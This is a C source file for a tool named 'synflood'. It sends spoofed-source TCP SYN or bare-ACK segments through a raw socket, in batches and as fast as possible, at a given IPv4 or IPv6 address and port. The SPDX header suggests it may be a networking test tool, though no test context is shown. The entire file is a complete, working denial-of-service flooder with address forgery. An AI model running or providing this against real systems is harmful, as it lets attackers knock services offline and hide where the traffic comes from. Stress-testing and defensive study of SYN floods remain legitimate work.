// SPDX-License-Identifier: GPL-2.0
/*
 * Sends TCP segments with invented source addresses as fast as it can:
 *
 *	synflood syn|ack SOURCE DESTINATION PORT COUNT
 *
 * The last two bytes of SOURCE and the source port count up. "syn" has the
 * options of a Linux client; "ack" acknowledges what nobody has sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#define BATCH	64
#define OPTIONS	20

struct segment {
	union {
		struct iphdr v4;
		struct ip6_hdr v6;
	} ip;
	struct tcphdr tcp;
	uint8_t opt[OPTIONS];
};

/* Linux' own SYN: MSS 1460, SACK permitted, timestamps, window scale 7 */
static const uint8_t options[OPTIONS] = {
	2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0x12, 0x34, 0, 0, 0, 0, 1, 3, 3, 7
};

static struct {
	int af;
	int is_ack;
	size_t iphlen;
	size_t alen;
	uint8_t src[16];
	uint8_t dst[16];
	struct sockaddr_storage to;
	socklen_t tolen;
	uint16_t port;
} conf;

static uint32_t sum(const void *p, size_t len, uint32_t acc)
{
	const uint8_t *b = p;
	size_t i;

	for (i = 0; i + 1 < len; i += 2)
		acc += (uint32_t)b[i] << 8 | b[i + 1];
	return acc;
}

static uint16_t fold(uint32_t acc)
{
	while (acc >> 16)
		acc = (acc & 0xffff) + (acc >> 16);
	return htons((uint16_t)~acc);
}

/* Bytes of the segment number @n, written to @buf. */
static size_t make(uint8_t *buf, uint32_t n)
{
	size_t tlen = sizeof(struct tcphdr) + (conf.is_ack ? 0 : OPTIONS);
	struct tcphdr th = {
		.source = htons((uint16_t)(1024 + n % 60000)),
		.dest = htons(conf.port),
		.seq = htonl(n * 2654435761u),
		.ack_seq = conf.is_ack ? htonl(~n) : 0,
		.doff = tlen / 4 & 0xf,
		.syn = !conf.is_ack,
		.ack = !!conf.is_ack,
		.window = htons(64240),
	};
	uint8_t *src = conf.src + conf.alen - 2;
	uint32_t acc;

	/* neither the network's own address nor its broadcast */
	src[0] = (uint8_t)(n / 250 % 250);
	src[1] = (uint8_t)(n % 250 + 1);
	if (conf.af == AF_INET) {
		struct iphdr ip = {
			.version = 4, .ihl = 5, .ttl = 64,
			.protocol = IPPROTO_TCP,
			.tot_len = htons((uint16_t)(sizeof(ip) + tlen)),
		};

		memcpy(&ip.saddr, conf.src, 4);
		memcpy(&ip.daddr, conf.dst, 4);
		memcpy(buf, &ip, sizeof(ip));
	} else {
		struct ip6_hdr ip = {
			.ip6_flow = htonl(6u << 28),
			.ip6_plen = htons((uint16_t)tlen),
			.ip6_nxt = IPPROTO_TCP, .ip6_hlim = 64,
		};

		memcpy(&ip.ip6_src, conf.src, 16);
		memcpy(&ip.ip6_dst, conf.dst, 16);
		memcpy(buf, &ip, sizeof(ip));
	}
	acc = sum(conf.src, conf.alen, IPPROTO_TCP + (uint32_t)tlen);
	acc = sum(conf.dst, conf.alen, acc);
	acc = sum(&th, sizeof(th), acc);
	if (!conf.is_ack)
		acc = sum(options, OPTIONS, acc);
	th.check = fold(acc);
	memcpy(buf + conf.iphlen, &th, sizeof(th));
	memcpy(buf + conf.iphlen + sizeof(th), options, OPTIONS);
	return conf.iphlen + tlen;
}

static void flood(int fd, uint32_t count)
{
	static uint8_t buf[BATCH][sizeof(struct segment)];
	struct mmsghdr msg[BATCH] = { 0 };
	struct iovec iov[BATCH];
	uint32_t n = 0;
	int i, sent;

	for (i = 0; i < BATCH; i++) {
		iov[i].iov_base = buf[i];
		msg[i].msg_hdr.msg_iov = &iov[i];
		msg[i].msg_hdr.msg_iovlen = 1;
		msg[i].msg_hdr.msg_name = &conf.to;
		msg[i].msg_hdr.msg_namelen = conf.tolen;
	}
	while (n < count) {
		for (i = 0; i < BATCH && n + (uint32_t)i < count; i++)
			iov[i].iov_len = make(buf[i], n + (uint32_t)i);
		sent = sendmmsg(fd, msg, (unsigned int)i, 0);
		if (sent < 0 && errno != ENOBUFS && errno != EAGAIN) {
			perror("synflood: send");
			exit(1);
		}
		n += sent > 0 ? (uint32_t)sent : 0;
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in *to4 = (struct sockaddr_in *)&conf.to;
	struct sockaddr_in6 *to6 = (struct sockaddr_in6 *)&conf.to;
	int fd;

	if (argc != 6 || (strcmp(argv[1], "syn") && strcmp(argv[1], "ack"))) {
		fprintf(stderr, "usage: synflood syn|ack SOURCE DESTINATION PORT COUNT\n");
		return 2;
	}
	conf.is_ack = !strcmp(argv[1], "ack");
	conf.af = strchr(argv[3], ':') ? AF_INET6 : AF_INET;
	if (inet_pton(conf.af, argv[2], conf.src) != 1 ||
	    inet_pton(conf.af, argv[3], conf.dst) != 1) {
		fprintf(stderr, "synflood: not an address\n");
		return 2;
	}
	conf.port = (uint16_t)atoi(argv[4]);
	if (conf.af == AF_INET) {
		conf.iphlen = sizeof(struct iphdr);
		conf.alen = 4;
		conf.tolen = sizeof(*to4);
		to4->sin_family = AF_INET;
		memcpy(&to4->sin_addr, conf.dst, 4);
	} else {
		conf.iphlen = sizeof(struct ip6_hdr);
		conf.alen = 16;
		conf.tolen = sizeof(*to6);
		to6->sin6_family = AF_INET6;
		memcpy(&to6->sin6_addr, conf.dst, 16);
	}
	/* the IP header is ours */
	fd = socket(conf.af, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("synflood: socket");
		return 1;
	}
	flood(fd, (uint32_t)strtoul(argv[5], NULL, 10));
	return 0;
}
